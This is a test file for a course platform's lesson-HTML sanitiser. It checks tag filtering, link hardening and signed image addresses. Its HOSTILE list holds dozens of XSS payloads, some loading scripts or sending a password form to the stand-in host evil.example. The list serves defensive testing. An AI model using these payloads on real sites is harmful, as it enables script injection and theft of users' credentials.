"""What lessons may consist of, and the addresses of their pictures."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from tms.courses import html
from tms.platform import signing

MEDIA = "0192f0c1-2345-7abc-8def-0123456789ab"
SCHEMES = {"http", "https", "mailto", "media", ""}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=//evil.example/x.png>",
    "<img src=/realms/tms/protocol/openid-connect/logout>",
    f"<img src=media:{MEDIA}/../../other>",
    "<img src=https://a@evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 2x' src=https://ok.example/x.png>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='#login' target=_blank rel=opener>x</a>",
    "<a id=login name=login class=btn style=position:fixed>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class=modal data-hx-get=/api hx-post=/api x-data=alert(1)>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<p lang='en\" onclick=alert(1)' dir=up>x</p>",
    "<ol start=99999999999999999999><li value=x>x</ol>",
    "<td colspan=1e9>x</td>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href=https://ok.example/ onmouseover=alert(1) ping=https://evil.example>x</a>",
]


class Reader(HTMLParser):
    """Collects whatever must not be in a lesson."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attributes):
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "svg",
        }:
            self.bad.append(tag)
        for name, value in attributes:
            if name.startswith("on") or name in {"style", "class", "name", "srcset", "target", "ping"}:
                self.bad.append(name)
            if name in {"href", "src"} and urlsplit(value).scheme not in SCHEMES:
                self.bad.append(value)
            if name == "src" and not re.fullmatch(r"https://\S+|media:[0-9a-f-]{36}", value):
                self.bad.append(value)
            if name == "id" and not value.startswith("doc-"):
                self.bad.append(value)


def check_harmless(text):
    reader = Reader()
    reader.feed(text)
    reader.close()
    assert reader.bad == []


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_is_disarmed(hostile):
    clean = html.sanitise(f"<p>before</p>{hostile}<p>after</p>")
    check_harmless(clean)
    assert clean.startswith("<p>before</p>")
    assert html.sanitise(clean) == clean


@given(
    st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<b>", '"', "'", "<", ">", "&", "x", "<!--", "-->"]))
)
def test_no_mixture_of_them_gets_through(parts):
    clean = html.sanitise("".join(parts))
    check_harmless(clean)
    check_harmless(html.with_signed_media(clean).replace("/api/v1/media/", "https://tms.test/"))
    assert html.sanitise(clean) == clean


@given(st.text())
def test_any_text_is_sanitised_to_something_storable_that_stays(said):
    clean = html.sanitise(said)
    clean.encode()
    assert "\x00" not in clean
    assert html.sanitise(clean) == clean


@pytest.mark.parametrize(
    "lesson",
    [
        "<h1>A</h1><h2>B</h2><h6>C</h6><hr>",
        "<p>H<sub>2</sub>O, x<sup>2</sup>, <em>a</em> <strong>b</strong> <mark>c</mark> <kbd>d</kbd></p>",
        '<ol start="3"><li value="5">x</li></ol><ul><li>y</li></ul><dl><dt>a</dt><dd>b</dd></dl>',
        "<pre><code>if a &lt; b:\n    pass</code></pre>",
        (
            '<table><caption>T</caption><thead><tr><th scope="col">a</th></tr></thead>'
            '<tbody><tr><td colspan="2" rowspan="3">b</td></tr></tbody></table>'
        ),
        f'<figure><img src="media:{MEDIA}" alt="A &lt;b&gt; &quot;c&quot;"><figcaption>F</figcaption></figure>',
        '<img src="https://images.example.org/a.png?x=1&amp;y=2" alt="">',
        "<blockquote>x</blockquote><details><summary>s</summary>t</details>",
        '<p dir="rtl" lang="ar">\u0645\u0631\u062d\u0628\u0627 \U0001f600</p>',
        (
            '<p><a id="doc-note1" rel="noopener noreferrer"></a>'
            '<a href="#doc-note1" rel="noopener noreferrer">1</a> '
            '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer">2</a> '
            '<a href="mailto:a@example.org" rel="noopener noreferrer">3</a></p>'
        ),
    ],
)
def test_what_lessons_need_stays_as_it_is(lesson):
    assert html.sanitise(lesson).replace(' rel="noopener noreferrer"', "") == lesson.replace(
        ' rel="noopener noreferrer"', ""
    )


def test_links_tell_the_other_site_nothing():
    assert 'rel="noopener noreferrer"' in html.sanitise('<a href="https://example.org">x</a>')


def test_pictures_are_read_at_signed_addresses_and_stored_by_id():
    stored = f'<p>x</p><img src="media:{MEDIA}" alt="a &quot; b"><img alt="c" src="media:{MEDIA}">'
    stored = html.sanitise(stored)
    read = html.with_signed_media(stored)
    assert "media:" not in read
    addresses = re.findall(r'src="([^"]+)"', read)
    assert len(addresses) == 2
    for address in addresses:
        parts = urlsplit(address)
        assert parts.path == f"/api/v1/media/{MEDIA}"
        assert signing.is_signed(parts.path, parts.query.removeprefix("signature="), seconds=300)
    assert html.sanitise(read) == stored


def test_full_addresses_of_this_site_are_stored_by_id_and_those_of_others_are_not():
    own = html.sanitise(f'<img src="http://tms.test/api/v1/media/{MEDIA}?signature=abc">')
    assert own == f'<img src="media:{MEDIA}">'
    foreign = f'<img src="https://other.example/api/v1/media/{MEDIA}">'
    assert html.sanitise(foreign) == foreign
    assert html.sanitise(f'<img src="http://other.example/api/v1/media/{MEDIA}">') == "<img>"


def test_words_that_look_like_an_address_are_left_alone():
    said = html.sanitise(
        f'<p>src="media:{MEDIA}" &lt;img src="media:{MEDIA}"&gt;</p>'
        f"<img alt='<img src=\"media:{MEDIA}\">' src=https://ok.example/a.png>"
    )
    assert html.with_signed_media(said) == said


def test_extracted_documents_name_pictures_by_number_and_take_none_from_elsewhere():
    document = f'<img src="media:12"><img src="media:{MEDIA}"><img src="https://evil.example/track.png">'
    assert html.sanitise_extracted(document) == f'<img src="media:12"><img src="media:{MEDIA}"><img>'
    assert html.sanitise('<img src="media:12">') == "<img>"


async def test_sections_are_stored_clean_and_read_with_pictures(admin, people, make_course, assign, session):
    course_id = await make_course(sections=1, published=True)
    content = f'<p onclick="x()">Hi</p><script>alert(1)</script><img src="media:{MEDIA}">'
    added = (await admin.post(f"/courses/{course_id}/sections", {"title": "T", "content": content}))["data"]
    assert added["content"].startswith(f'<p>Hi</p><img src="/api/v1/media/{MEDIA}?signature=')
    path = f"/courses/{course_id}/sections/{added['id']}"
    saved = (await admin.patch(path, {"content": added["content"] + "<p>More</p>"}))["data"]
    assert saved["content"].endswith('"><p>More</p>')
    student = await people.student()
    await assign(course_id, student, status=201)
    read = (await student.get(f"/courses/{course_id}?include_sections=true"))["data"]["sections"][1]
    assert "?signature=" in read["content"]
    assert "media:" not in read["content"]
    stored = await session.execute(
        text("SELECT content FROM course_sections WHERE id = :id"), {"id": added["id"]}
    )
    assert stored.scalar_one() == f'<p>Hi</p><img src="media:{MEDIA}"><p>More</p>'
    assert (await admin.patch(path, {"content": None}))["data"]["content"] is None


async def test_lone_surrogates_are_refused_not_crashed_on(admin, make_course):
    course_id = await make_course()
    response = await admin.http.post(
        f"/api/v1/courses/{course_id}/sections",
        content=b'{"title": "T", "content": "a\\ud800b"}',
        headers={"Content-Type": "application/json"},
    )
    assert response.status_code == 422
